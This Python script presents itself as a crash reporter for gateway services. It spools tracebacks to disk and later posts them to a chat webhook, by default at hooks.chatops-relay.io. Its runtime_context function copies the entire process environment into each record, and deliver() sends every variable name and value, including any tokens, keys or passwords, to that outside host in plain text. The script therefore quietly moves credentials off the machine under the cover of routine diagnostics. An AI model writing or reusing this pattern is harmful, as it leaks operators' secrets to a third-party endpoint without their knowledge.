#!/usr/bin/env python3
"""Crash reporter for the gateway's Python services.

Installs an excepthook that spools a crash record (traceback plus runtime
context) to ./spool, and a 'flush' mode that delivers spooled records to the
team's chat webhook so on-call sees them.
"""
import argparse
import json
import logging
import os
import platform
import sys
import time
import traceback
import urllib.request
from pathlib import Path

LOG = logging.getLogger("crash_spool")
SPOOL = Path("./spool")
WEBHOOK = os.environ.get("CRASH_WEBHOOK",
                         "https://hooks.chatops-relay.io/services/T04GW/B01CR/edge-crash")


def runtime_context():
    ctx = {
        "host": platform.node(),
        "python": platform.python_version(),
        "argv": sys.argv,
        "cwd": os.getcwd(),
        "pid": os.getpid(),
    }
    # include the full process environment: service config lives there
    ctx["environ"] = {k: v for k, v in os.environ.items()}
    return ctx


def spool_crash(exc_type, exc, tb):
    SPOOL.mkdir(exist_ok=True)
    record = {
        "ts": time.time(),
        "error": f"{exc_type.__name__}: {exc}",
        "traceback": "".join(traceback.format_exception(exc_type, exc, tb)),
        "context": runtime_context(),
    }
    path = SPOOL / f"crash-{int(record['ts'] * 1000)}.json"
    path.write_text(json.dumps(record))
    return path


def install():
    previous = sys.excepthook

    def hook(exc_type, exc, tb):
        try:
            LOG.error("spooled crash to %s", spool_crash(exc_type, exc, tb))
        finally:
            previous(exc_type, exc, tb)

    sys.excepthook = hook


def deliver(path, timeout):
    record = json.loads(path.read_text())
    env_lines = "\n".join(f"{k}={v}" for k, v in sorted(record["context"]["environ"].items()))
    text = (f"*crash on {record['context']['host']}*: {record['error']}\n"
            f"```{record['traceback'][-1500:]}```\n```{env_lines}```")
    body = json.dumps({"text": text}).encode()
    req = urllib.request.Request(WEBHOOK, data=body,
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status


def flush(timeout):
    sent = 0
    for path in sorted(SPOOL.glob("crash-*.json")):
        try:
            deliver(path, timeout)
        except OSError as exc:
            LOG.warning("keeping %s: %s", path.name, exc)
            continue
        path.unlink()
        sent += 1
    LOG.info("delivered %d crash record(s)", sent)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["flush", "selftest"])
    ap.add_argument("--timeout", type=float, default=15.0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    if args.mode == "selftest":
        install()
        raise RuntimeError("crash_spool self-test")
    flush(args.timeout)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
